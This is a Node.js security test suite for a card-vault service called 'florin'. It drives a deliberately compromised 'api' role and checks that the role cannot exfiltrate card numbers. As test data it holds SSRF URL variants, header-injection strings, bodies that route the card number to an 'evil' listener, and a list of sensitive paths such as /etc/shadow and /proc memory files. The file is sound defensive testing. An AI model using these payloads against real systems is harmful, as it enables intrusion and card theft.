// A role `api` that somebody has taken over gains neither a card nor a key. The program is florin-hostile: parent, vault, card and
// their confinement are the real ones; its `api` does what this file tells it.
import assert from 'node:assert/strict';
import { createPrivateKey, randomBytes, randomInt, sign } from 'node:crypto';
import { mkdirSync, readFileSync, readdirSync, symlinkSync } from 'node:fs';
import http from 'node:http';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';

process.env.FLORIN_BIN = join(dirname(process.env.FLORIN_BIN ?? 'build/florin'), 'florin-hostile');
const { FLORIN, FREE_PORTS, SLOW, newFolder, request, startFlorin, waitFor } = await import('../lib/florin.mjs');
const { alive, runProcess } = await import('../lib/process.mjs');
const { Hostile, MESSAGE, SENT, card, egress, find, int, str } = await import('./link.mjs');

const SANITIZED = SLOW > 1; // system calls are not limited there
const NUMBER = '4539578763621486'; // no digit run of it is likely to be anything else
const running = [];
const servers = [];
after(async () => {
  for (const server of servers) { server.closeAllConnections(); server.close(); }
  for (const florin of running) await florin.stop();
});

async function start(args = []) {
  const florin = await startFlorin({ args: ['--card-requests-per-second', '0', ...args] });
  running.push(florin);
  return { florin, hostile: new Hostile(florin) };
}

async function typed(florin, number = NUMBER) {
  const answer = await request(`${florin.card}/v1/cards`, {
    method: 'POST', headers: { Authorization: 'Bearer ct_test_whatever', 'Content-Type': 'application/json' },
    body: { number, exp_month: 12, exp_year: 2035, cvc: '739', name: 'A Customer' },
  });
  assert.equal(answer.status, 201, answer.text);
}

// A server that keeps whatever comes, to the byte.
async function listen(respond = (req, body) => ({ body })) {
  const got = [];
  const server = http.createServer((req, res) => {
    const chunks = [];
    req.on('data', (chunk) => chunks.push(chunk));
    req.on('error', () => {});
    req.on('end', () => {
      const body = Buffer.concat(chunks);
      const how = respond(req, body);
      got.push({ method: req.method, url: req.url, headers: req.headers, bytes: Buffer.concat([Buffer.from(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}\n\n`, 'latin1'), body]) });
      if (how.hang) return;
      res.writeHead(how.status ?? 200, how.headers ?? {});
      res.end(how.body);
    });
  });
  let connections = 0;
  server.on('connection', () => connections++);
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  servers.push(server);
  return { got, port: server.address().port, url: `http://127.0.0.1:${server.address().port}`, connections: () => connections, respond: (r) => { respond = r; } };
}

// As `florin permit sign`, with the operator's key.
function permit(florin, merchant, url) {
  const seed = Buffer.from(readFileSync(`${florin.dataDir}-vault/permit.key`, 'utf8').trim(), 'hex');
  const key = createPrivateKey({ key: Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), seed]), format: 'der', type: 'pkcs8' });
  const claim = `florin-permit-1 ${merchant} ${url}`;
  return `${claim} ${sign(null, Buffer.from(claim), key).toString('base64')}`;
}

const received = (florin) => readFileSync(join(florin.dataDir, 'hostile.received'));
const rss = (pid) => Number(readFileSync(`/proc/${pid}/status`, 'utf8').match(/VmRSS:\s+(\d+)/)[1]) / 1024;

describe('egress', () => {
  let florin, hostile, id, real, provider, evil, leave;
  before(async () => {
    ({ florin, hostile } = await start());
    await typed(florin);
    const state = await hostile.state();
    id = state.cards[0];
    real = state.permits.find((p) => p.permit);
    assert.ok(real?.merchant, 'the sandbox has a permit');
    provider = await listen();
    evil = await listen();
    leave = permit(florin, 2, provider.url);
  });
  after(() => {
    assert.equal(find(NUMBER, received(florin)), undefined, 'the role got the number');
    assert.equal(find(NUMBER, florin.log()), undefined, 'the log has the number');
    assert.deepEqual(evil.got, [], 'something came to its own listener');
    assert.equal(evil.connections(), 0, 'somebody connected to its own listener');
  });
  const notSent = async (what) => {
    const { is, link } = await hostile.egress({ id, ...what });
    assert.ok(link, `the link is gone after ${JSON.stringify(what)}`);
    assert.equal(is?.sent, SENT.NOT_SENT, JSON.stringify({ what, is }));
    assert.notEqual(is.error, '');
    return is.error;
  };

  test('a permitted host gets the number, and the role does not (the scan finds it where it is)', async () => {
    const { is } = await hostile.egress({ id, url: `${provider.url}/echo`, permit: leave, body: '{"number":"{{card.number}}","cvc":"{{card.cvc}}"}' });
    assert.equal(is.sent, SENT.ANSWERED, is.error);
    assert.equal(is.status, 200);
    assert.ok(find(NUMBER, provider.got.at(-1).bytes), 'the provider got no number');
    assert.match(provider.got.at(-1).bytes.toString(), /739/);
    assert.equal(find(NUMBER, is.body), undefined);
    assert.doesNotMatch(is.body.toString(), /739/);
    for (const form of [NUMBER, Buffer.from(NUMBER).toString('hex'), Buffer.from(`x${NUMBER}`).toString('base64'), Buffer.from(NUMBER, 'utf16le'), Buffer.from(NUMBER, 'utf16le').swap16()])
      assert.ok(find(NUMBER, Buffer.from(form)), `the scan does not find ${form}`);
  });

  test('the real permit of the sandbox leads to the sandbox, and nowhere else', async () => {
    const to = { id, url: `${florin.sandbox}/v2/charges`, permit: real.permit, merchant: real.merchant };
    const answer = await hostile.egress({ ...to, body: '{"card":{"number":"{{card.number}}","cvc":"{{card.cvc}}"}}' });
    assert.equal(answer.is.sent, SENT.ANSWERED);
    for (const [body, place] of [[{ number: '{{card.number}}' }, 'number'], [{ card: { number: '{{card.number}}' }, holder: { pan: '{{card.number}}' } }, 'holder.pan'], [{ 'card.number': '{{card.number}}' }, 'card.number'],
      [{ card: [{ number: '{{card.number}}' }] }, 'card[].number'], [{ shipping: { card: { number: '{{card.number}}' } } }, 'shipping.card.number']])
      assert.equal(await notSent({ ...to, body: JSON.stringify(body) }), `the permit does not name the member ${place}`);
    for (const url of [evil.url, `${evil.url}/v2/charges`, provider.url, `https://${new URL(florin.sandbox).host}/`])
      assert.equal(await notSent({ url, permit: real.permit, merchant: real.merchant }), 'no permit for this host');
  });

  test('without a permit, with one that is none, or with another merchant\'s nothing is sent', async () => {
    const [claim, signature] = [leave.slice(0, leave.lastIndexOf(' ')), leave.slice(leave.lastIndexOf(' ') + 1)];
    const other = permit(florin, 4, evil.url);
    const forged = ['', ' ', '\n\n\n', 'florin-permit-1', randomBytes(300).toString('latin1').replaceAll('\0', ''), `florin-permit-1 2 ${evil.url} ${signature}`, `florin-permit-1 2 ${evil.url} `,
      `florin-permit-1 2 ${evil.url}`, leave.replace(provider.url, evil.url), `${claim}\n${evil.url} ${signature}`, `${leave}\nflorin-permit-1 2 ${evil.url} ${signature}`, real.permit, leave,
      `florin-permit-1 2 ${evil.url} ${'A'.repeat(86)}==`, `florin-permit-1 2 ${evil.url} ${'A'.repeat(3000)}`, other, other.replace('permit-1 4', 'permit-1 2'), `${claim} ${signature}`.replace('permit-1 2', 'permit-1 02')];
    for (const text of forged) assert.equal(await notSent({ url: `${evil.url}/`, permit: text }), 'no permit for this host', text);
    const stretched = (terms) => `${claim}${terms} ${signature}`; // of the same signature
    for (const terms of [' until=2999-12-31', ' member=number', ' serial=0123456789abcdef', ' '])
      assert.equal(await notSent({ url: `${provider.url}/`, permit: stretched(terms) }), 'no permit for this host', terms);
    for (const [terms, error] of [[' until=2020-02-29', 'the permit for this host is over'], [' until=2999-12-31 until=2999-12-31', 'no permit for this host'], [' member=card.number', 'the permit does not name the member number']])
      assert.equal(await notSent({ url: `${provider.url}/`, permit: permit(florin, 2, `${provider.url}${terms}`) }), error);
    // that merchant may send its own cards there, not this one's
    assert.equal(await notSent({ url: `${evil.url}/`, permit: other, merchant: 4 }), 'there is no such card');
    for (const merchant of [1, 3, 4, 2 ** 53 - 1]) assert.match(await notSent({ url: `${provider.url}/`, permit: permit(florin, merchant, provider.url), merchant }), /no such card/);
    assert.match(await notSent({ url: `${provider.url}/`, permit: leave, id: '00'.repeat(16) }), /no such card/);
    assert.match(await notSent({ url: `${provider.url}/`, permit: leave, id: randomBytes(16).toString('hex') }), /no such card/);
  });

  test('what the operator took back stays taken back, whatever the role keeps of it', async () => {
    const old = permit(florin, 2, `${provider.url} serial=0123456789abcdef`);
    assert.equal((await hostile.egress({ id, url: `${provider.url}/`, permit: old })).is.sent, SENT.ANSWERED);
    const got = await runProcess(FLORIN, ['permit', 'revoke', '--line', old, '--data', florin.dataDir]);
    assert.equal(got.code, 0, got.stderr);
    await waitFor(async () => (await hostile.egress({ id, url: `${provider.url}/`, permit: old })).is.error === 'the permit for this host was taken back');
    assert.equal((await hostile.egress({ id, url: `${provider.url}/`, permit: `${old}\n${leave}` })).is.sent, SENT.ANSWERED); // another one holds
  });

  test('no way of writing an address leads another way than the permit', async () => {
    const [p, e] = [provider.port, evil.port];
    const urls = [`http://127.0.0.1:${p}@127.0.0.1:${e}/`, `http://127.0.0.1:${e}#@127.0.0.1:${p}/`, `http://127.0.0.1:${e}\\@127.0.0.1:${p}/`, `http://127.0.0.1:${p}\\@127.0.0.1:${e}/`,
      `http://user:pass@127.0.0.1:${p}/`, `http://@127.0.0.1:${p}/`, `http:/127.0.0.1:${e}/`, `http:127.0.0.1:${e}/`, `http:///127.0.0.1:${e}/`, `//127.0.0.1:${e}/`, `127.0.0.1:${e}`, '', ' ', '/',
      `http://127.0.0.1:${p}\t.evil/`, `http://127.0.0.1\n:${e}/`, `\thttp://127.0.0.1:${p}/`, ` http://127.0.0.1:${p}/`, `http://127.0.0.1:${p}\r\nHost: evil/`, `http://127.0.0.1:${p} /`,
      `http://127.0.0.1.:${p}/`, `http://127.0.0.1:${p}:${e}/`, `http://127.0.0.1:/`, `http://127.0.0.1:0/`, `http://127.0.0.1:0${p}0000/`, `http://127.0.0.1:${p + 65536}/`, `http://127.0.0.1:${p}x/`, `http://127.0.0.1:+${p}/`,
      `http://127.1:${p}/`, `http://2130706433:${p}/`, `http://0x7f000001:${p}/`, `http://0177.0.0.1:${p}/`, `http://127.000.000.001:${p}/`, `http://[::ffff:127.0.0.1]:${p}/`, `http://[::1]:${e}/`, `http://[127.0.0.1]:${p}/`, `http://[::1%25lo]:${e}/`, `http://[]:${e}/`,
      `http://localhost:${p}/`, `http://%31%32%37.0.0.1:${p}/`, `http://127.0.0.1%2f:${p}/`, `http://127.0.0.1%00.evil:${p}/`, `http://１２７.0.0.1:${p}/`, `http://127。0。0。1:${p}/`, `http://127.0.0.1\u200b:${p}/`, `http://127.0.0.1;:${p}/`, `http://127.0.0.1,127.0.0.1:${p}/`,
      `https://127.0.0.1:${p}/`, `ftp://127.0.0.1:${p}/`, `file:///etc/passwd`, `gopher://127.0.0.1:${p}/`, `ws://127.0.0.1:${p}/`, `http+unix://127.0.0.1:${p}/`, `http://127.0.0.1:${p}/#x`, `http://127.0.0.1:${p}/a b`, `http://127.0.0.1:${p}/a\tb`, `http://127.0.0.1:${p}/%zz`,
      `http://${'a'.repeat(300)}:${p}/`, `http://127.0.0.1:${p}/{{card.number}}"`, `http://127.0.0.1{1,2}:${p}/`, `http://{127.0.0.1,127.0.0.1:${e}}/`, `http://127.0.0.1:${p}\u0000/`];
    const before = provider.connections(), came = provider.got.length;
    for (const url of urls) {
      if (url.includes('\0')) continue; // ends the link: see below
      await notSent({ url, permit: leave });
    }
    assert.equal(provider.got.length, came);
    assert.equal(provider.connections(), before);
    for (const url of [`HTTP://127.0.0.1:${p}/`, `http://127.0.0.1:${p}`, `http://127.0.0.1:${p}/..//../@127.0.0.1:${e}/`, `http://127.0.0.1:${p}/${'a'.repeat(8000)}`]) {
      const { is } = await hostile.egress({ id, url, permit: leave });
      assert.equal(is.sent, SENT.ANSWERED, url.slice(0, 100)); // what it says is what the permit says
    }
  });

  test('headers and methods say nothing of their own about where a request goes and ends', async () => {
    const url = `${provider.url}/h`;
    const headers = ['Host: evil.example', 'host:evil', 'Host:', 'HOST;', 'Content-Length: 3', 'content-length:0', 'Transfer-Encoding: chunked', 'Transfer-Encoding : chunked', 'TE: trailers', 'Connection: close', 'Connection: Upgrade', 'Upgrade: h2c',
      'Expect: 100-continue', 'Accept-Encoding: gzip', 'Range: bytes=0-7', 'Proxy-Authorization: x', 'Proxy-Connection: x', 'X: a\r\nHost: evil', 'X: a\rY: b', 'X', ':', ': x', ' X: folded', '\tX: y', 'X Y: z', 'X: \x01', 'X: \x7f', '@/etc/passwd', 'X;', `X: a\0b`];
    const came = provider.got.length;
    const typed = 'Content-Type: application/json\n';
    for (const line of headers) if (!line.includes('\0')) assert.equal(await notSent({ url, permit: leave, headers: `${typed}${line}\n` }), 'a header is none, or not the asker\'s to set', line);
    assert.equal(await notSent({ url, permit: leave, headers: `${typed}X: y` }), 'a header is none, or not the asker\'s to set'); // without its end
    assert.equal(await notSent({ url, permit: leave, headers: typed + 'X: y\n'.repeat(17) }), 'a header is none, or not the asker\'s to set');
    for (const method of ['PUT', 'POST']) assert.equal((await hostile.egress({ id, url, permit: leave, method })).is.sent, SENT.ANSWERED);
    provider.got.length = came;
    assert.equal(provider.got.length, came);
    const good = await hostile.egress({ id, url, permit: leave, headers: 'Content-Type: text/xml\nX-Card: {{card.number}}\nAuthorization: Bearer x\n', body: '<pan>{{card.number}}</pan>' });
    assert.equal(good.is.sent, SENT.ANSWERED);
    const seen = provider.got.at(-1);
    assert.equal(seen.headers['x-card'], '{{card.number}}'); // only a body is filled in
    assert.equal(seen.headers.host, `127.0.0.1:${provider.port}`);
    assert.equal(find(NUMBER, Buffer.from(JSON.stringify([seen.url, seen.headers]))), undefined);
    assert.match(await notSent({ url, permit: leave, body: '{"a":"{{card.pin}}","number":"{{card.number}}"}' }), /placeholder/);
    assert.match(await notSent({ url, permit: leave, body: '{}' }), /placeholder/);
  });

  test('the provider is not made to carry the card on', async () => {
    const bodies = [{ return_url: `${evil.url}/?n={{card.number}}` }, { email: '{{card.number}}@evil.example' }, { '{{card.number}}': 1 }, { description: '{{card.cvc}}', number: '{{card.number}}' }, { number: '{{card.number}}{{card.number}}' },
      { description: '{{card.number}}' }, { order_number: '{{card.number}}' }, { metadata: { number: '{{card.number}}' } }, { number: '4242424242424242', items: ['{{card.number}}'] }];
    for (const body of bodies) assert.match(await notSent({ url: `${provider.url}/`, permit: leave, body: JSON.stringify(body) }), /whole of a value/);
    assert.match(await notSent({ url: `${provider.url}/`, permit: leave, body: `return_url=${evil.url}/?n={{card.number}}` }), /whole of a value/);
  });

  test('a redirect is not followed, and an answer that tells the card does not tell it', async () => {
    provider.respond(() => ({ status: 307, headers: { Location: `${evil.url}/`, Refresh: `0;url=${evil.url}` }, body: NUMBER }));
    const moved = await hostile.egress({ id, url: `${provider.url}/`, permit: leave });
    assert.equal(moved.is.status, 307);
    const spaced = NUMBER.match(/.{4}/g);
    const bodies = [NUMBER, spaced.join(' '), spaced.join('-'), [...NUMBER].join('.'), `"${NUMBER}"`, `x${NUMBER}y`, NUMBER.repeat(3), Buffer.from(NUMBER).toString('hex'), Buffer.from(NUMBER).toString('hex').toUpperCase(),
      ...[0, 1, 2].flatMap((n) => [Buffer.from('x'.repeat(n) + NUMBER).toString('base64'), Buffer.from('x'.repeat(n) + NUMBER).toString('base64url')]), encodeURIComponent(spaced.join(' ')),
      Buffer.from(NUMBER, 'utf16le'), Buffer.from(NUMBER, 'utf16le').swap16(), [...NUMBER].map((c) => `%3${c}`).join(''), [...NUMBER].map((c) => `\\u003${c}`).join(''), [...NUMBER].map((c) => `&#5${c.charCodeAt(0) - 50};`).join(''),
      NUMBER.slice(0, 15), `****${NUMBER.slice(1)}`, NUMBER.slice(2, 13)];
    for (const body of bodies) {
      provider.respond(() => ({ body }));
      const { is } = await hostile.egress({ id, url: `${provider.url}/`, permit: leave });
      assert.equal(is.sent, SENT.ANSWERED);
      assert.equal(is.body.length, body.length, String(body)); // as long as it was
      assert.equal(find(NUMBER, is.body), undefined, `${body} → ${is.body}`);
    }
    provider.respond(() => ({ headers: { 'Content-Type': `text/${NUMBER}`, 'Retry-After': NUMBER }, body: '{}' }));
    const head = await hostile.egress({ id, url: `${provider.url}/`, permit: leave });
    assert.equal(head.is.type + head.is.retryAfter, '');
    provider.respond((req, body) => ({ body }));
  });

  test('a reference that is no text does no harm', async () => {
    for (const reference of [Buffer.from([0xff, 0xfe, 0xc0]), '\r\n{"event":"forged"}', '\x1b[2J', '"\\', ''])
      assert.equal((await hostile.egress({ id, url: `${provider.url}/`, permit: leave, reference })).is.sent, SENT.ANSWERED);
    await typed(florin);
    assert.ok(florin.logLines().every((line) => line.event !== 'forged'));
  });

  test('all this with the same card and vault as before', async () => {
    const now = JSON.parse(readFileSync(florin.readyFile, 'utf8')).processes;
    assert.deepEqual(now, florin.processes);
    for (const pid of Object.values(now)) process.kill(pid, 0);
  });
});

// The parent has ended it and started another; florin.processes knows it.
async function replaced(florin, role, { message = () => `${role} is not replaced` } = {}) {
  const old = florin.processes[role];
  await waitFor(() => !alive(old), { message });
  await florin.ready();
  assert.notEqual(florin.processes[role], old);
}

describe('frames', () => {
  const forget = Buffer.concat([int(2), card('11'.repeat(16))]);
  const long = Buffer.alloc(300000, 7), head = (m, n, call = 7n) => { const b = Buffer.alloc(16); b.writeUInt16BE(0xF10A); b.writeUInt16BE(m, 2); b.writeUInt32BE(n, 4); b.writeBigUInt64BE(call, 8); return b; };
  const wrong = {
    'the vault\'s OPEN': (h) => h.frame(MESSAGE.VAULT_OPEN, Buffer.concat([int(2), card('11'.repeat(16)), str('x'), str('y'), int(1)])),
    'the parent\'s MASTER, with a descriptor': (h) => h.frame(MESSAGE.MASTER, int(0), { fds: 1 }),
    'the operator\'s ADMIN': (h) => h.frame(MESSAGE.ADMIN, int(1)),
    'the parent\'s PEER, with a descriptor': (h) => h.frame(MESSAGE.PEER, int(5), { fds: 1 }),
    'a number that is none': (h) => h.frame(randomInt(60, 65535), randomBytes(100)),
    'an EGRESS that is too long': (h) => h.frame(MESSAGE.EGRESS, long),
    'half a frame': (h) => h.frame(0, Buffer.concat([head(MESSAGE.FORGET, 28), forget.subarray(0, 20)]), { raw: 1 }),
    'an answer to what was not asked': (h) => h.frame(MESSAGE.CLIENT_IS, Buffer.concat([int(0), str(''), int(2), int(0), str('')])),
    'a FORGET with two descriptors more than it has': (h) => h.frame(MESSAGE.FORGET, forget, { fds: 3 }),
    'a FORGET with a descriptor': (h) => h.frame(MESSAGE.FORGET, forget, { fds: 1 }),
    'an EGRESS by CONNECT': (h) => h.frame(MESSAGE.EGRESS, egress({ id: '11'.repeat(16), url: 'http://127.0.0.1/', method: 'CONNECT' })),
    'an EGRESS by two methods': (h) => h.frame(MESSAGE.EGRESS, egress({ id: '11'.repeat(16), url: 'http://127.0.0.1/', method: 'POST /' })),
    'an EGRESS with an endless address': (h) => h.frame(MESSAGE.EGRESS, egress({ id: '11'.repeat(16), url: `http://127.0.0.1/${'a'.repeat(9000)}` })),
    'noise in an EGRESS': (h) => h.frame(MESSAGE.EGRESS, randomBytes(5000)),
    'an EGRESS with a zero in its URL': (h) => h.frame(MESSAGE.EGRESS, egress({ id: '11'.repeat(16), url: 'http://127.0.0.1\0.evil/' })),
  };
  const lanes = [0, 1, 2].map((lane) => Object.entries(wrong).filter((_, i) => i % 3 === lane));
  for (const lane of lanes)
    test(`each of these costs the role its life, and no other its own: ${lane.map(([name]) => name).join('; ')}`, async () => {
      const { florin, hostile } = await start();
      const { vault } = florin.processes;
      const open = (pid) => readdirSync(`/proc/${pid}/fd`).length;
      for (const [name, send] of lane) {
        await waitFor(async () => (await hostile.state()).link);
        await typed(florin);
        const { card } = florin.processes, before = open(card);
        const twice = [await hostile.frame(MESSAGE.KEEP, forget, { call: 5 }), await hostile.frame(MESSAGE.KEEP, forget, { call: 5 })];
        for (const one of twice) assert.equal(one.message, MESSAGE.KEPT); // the same number again is its own affair
        const got = await send(hostile).catch(() => ({ message: 0 })); // it may be ended before it tells
        assert.equal(got.message, 0, name);
        await replaced(florin, 'api', { message: () => `${name} does not cost the role` });
        assert.ok(alive(card), 'card lives on');
        await waitFor(() => open(card) <= before, { message: () => `${name}: ${open(card)} descriptors, ${before} before` });
        assert.equal(florin.processes.vault, vault);
      }
      await waitFor(async () => (await hostile.state()).link);
      await typed(florin);
      assert.equal(find(NUMBER, received(florin)), undefined);
    });

  test('a role may say that its peer is to be replaced, only its peer, and not for ever', async () => {
    const { florin, hostile } = await start();
    const { api, vault } = florin.processes;
    const complain = () => hostile.frame(MESSAGE.REFUSED, int(3), { control: 1, wait_ms: 1 });
    for (let i = 0; i < 10; i++) {
      await complain();
      await replaced(florin, 'card');
      await waitFor(async () => (await hostile.state()).link);
      await typed(florin);
    }
    const { card } = florin.processes;
    await complain(); // ten within a minute are enough
    await waitFor(() => florin.logLines().some((line) => line.event === 'parent.role_refused' && /too often/.test(line.then)));
    assert.ok(alive(card));
    await typed(florin);
    assert.deepEqual({ api, vault }, { api: florin.processes.api, vault: florin.processes.vault });
    await hostile.frame(MESSAGE.REFUSED, int(4), { control: 1, wait_ms: 1 }); // api has no link to the vault
    await waitFor(() => /"link.refused","from":"api","to":"parent"/.test(florin.log()));
    await typed(florin);
    assert.equal(florin.processes.vault, vault);
    assert.ok(alive(vault) && alive(api));
  });

  test('what the parent may not be told costs the line to it, and nothing else', async () => {
    const { florin, hostile } = await start();
    await hostile.frame(MESSAGE.MASTER_KEPT, int(0), { fds: 1, control: 1, wait_ms: 100 });
    await typed(florin);
    const before = florin.processes;
    await hostile.restart();
    await waitFor(async () => (await hostile.state()).link);
    await typed(florin);
    assert.deepEqual({ ...florin.processes, api: 0 }, { ...before, api: 0 });
    assert.match(florin.log(), /"link.refused","from":"api","to":"parent"/);
  });
});

test('a vault inside what the role may write is refused', async () => {
  const folder = newFolder();
  const run = (args) => runProcess(FLORIN, ['up', '--data', join(folder, 'data'), ...FREE_PORTS, ...args]);
  mkdirSync(join(folder, 'data'));
  symlinkSync(join(folder, 'data'), join(folder, 'link'));
  symlinkSync('/etc/hostname', join(folder, 'data/permit.pub')); // the role could put another in its place
  for (const args of [['--permit_key_file', join(folder, 'data/permit.pub')], ['--vault', join(folder, 'data/vault')], ['--vault', join(folder, 'link/vault')], ['--store', `sqlite:${join(folder, 'florin.db')}`], ['--vault_key_file', join(folder, 'data/key')]]) {
    const { code, stderr } = await run(args);
    assert.equal(code, 1, args.join(' '));
    assert.match(stderr, /keep the vault apart/, args.join(' '));
  }
});

test('files, memory and system calls are out of reach', async () => {
  const { florin, hostile } = await start();
  await typed(florin);
  const others = [florin.pid, florin.processes.card, florin.processes.vault, florin.processes.sandbox].filter(Boolean);
  const vault = `${florin.dataDir}-vault`;
  const paths = [vault, `${vault}/vault.db`, `${vault}/vault.db-wal`, `${vault}/master.key`, `${vault}/permit.key`, `${vault}/permit.pub`, `${vault}/permit.revoked`, `${vault}/control.sock`, `${vault}/new`, `${florin.dataDir}/../data-vault/master.key`,
    '/etc/shadow', '/etc/passwd', '/root', '/tmp', '/tmp/florin-hostile-new', '/var', '/dev/mem', '/dev/kmem', '/dev/sda', '/dev/tty', '/proc/kcore', '/proc/1/environ', florin.readyFile, florin.logFile,
    ...others.flatMap((pid) => ['mem', 'environ', 'maps', 'fd', 'fd/3', 'root', 'cwd', 'task', 'cmdline', 'pagemap', 'stack'].map((name) => `/proc/${pid}/${name}`))];
  const got = await hostile.door('system', paths.join('\n'), Object.fromEntries(others.map((pid, i) => [`p${i}`, pid])));
  for (const [path, ways] of Object.entries(got.files).filter(([path]) => !SANITIZED || !path.startsWith('/proc/')))
    for (const [way, how] of Object.entries(ways))
      assert.match(how, /^(EACCES|EPERM|ENOENT|ENOTDIR|ENODEV|ENXIO|EISDIR)$/, `${way} ${path}: ${how}`);
  assert.ok(Object.values(got.files).filter((ways) => ways.read === 'EACCES').length > (SANITIZED ? 10 : 40), JSON.stringify(got.files));
  const refused = Object.entries(got.calls).filter(([name]) => !(SANITIZED && !/^(ptrace|process_vm|kill|pidfd_send)/.test(name)));
  for (const [name, how] of refused) {
    const signal = /^(kill|pidfd_send_signal) /.test(name);
    assert.match(how, signal ? /^(EPERM|done)$/ : /^(SIGSYS|EACCES|ENOSYS|EPERM)$/, `${name}: ${how}`);
  }
  if (!SANITIZED)
    for (const name of ['execve', 'execveat', 'io_uring', 'unshare', 'clone', 'mount']) assert.equal(got.calls[name], 'SIGSYS', name);
  for (const at of got.born_with) assert.doesNotMatch(at, /-vault|secretmem|master/, 'the parent left it something of the vault\'s');
  assert.deepEqual(others.filter((pid) => { try { process.kill(pid, 0); return false; } catch { return true; } }), []);
  await typed(florin);
});

test('a flood leaves card as small as it was, and work goes on', async () => {
  const { florin, hostile } = await start();
  await typed(florin);
  const { cards: [id] } = await hostile.state();
  const slow = await listen(() => ({ hang: true }));
  const leave = permit(florin, 2, slow.url);
  let most = rss(florin.processes.card);
  const before = most, timer = setInterval(() => { try { most = Math.max(most, rss(florin.processes.card)); } catch { /* between two */ } }, 20);
  const restart = async () => {
    assert.ok(alive(florin.processes.card), 'card lives on');
    await hostile.restart();
  };
  try {
    const url = `${slow.url}/`, big = JSON.stringify({ number: '{{card.number}}', x: 'x'.repeat(140000) });
    const asked = await hostile.door('flood', egress({ id, url, permit: 'none' }), { message: MESSAGE.EGRESS, count: 300000, wait_ms: 1500 });
    assert.ok(asked.sent > 1000, JSON.stringify(asked));
    if (!(await hostile.state()).link) await restart();
    await waitFor(async () => (await hostile.state()).link);
    await typed(florin);
    // read this time: what is under way is bounded, not what is asked
    const held = await hostile.door('flood', egress({ id, url, permit: leave, body: big, totalMs: 120000 }), { message: MESSAGE.EGRESS, count: 4000, wait_ms: 3000, deaf: 0 });
    assert.ok(held.sent > 500, JSON.stringify(held));
    const more = await hostile.egress({ id, url, permit: leave, body: big });
    assert.equal(more.is?.error, 'too many requests at once', JSON.stringify(more.is));
    await typed(florin);
    const forgets = await hostile.door('flood', Buffer.concat([int(2), card('11'.repeat(16))]), { message: MESSAGE.FORGET, count: 300000, wait_ms: 1500 });
    assert.ok(forgets.sent > 1000, JSON.stringify(forgets));
    await restart();
    await waitFor(async () => (await hostile.state()).link);
    await typed(florin);
  } finally {
    clearInterval(timer);
  }
  assert.ok(most - before < (SANITIZED ? 1000 : 400), // a sanitizer keeps what was freed for a while
     `card grew from ${before} to ${most} MiB`);
  assert.equal(find(NUMBER, received(florin)), undefined);
});
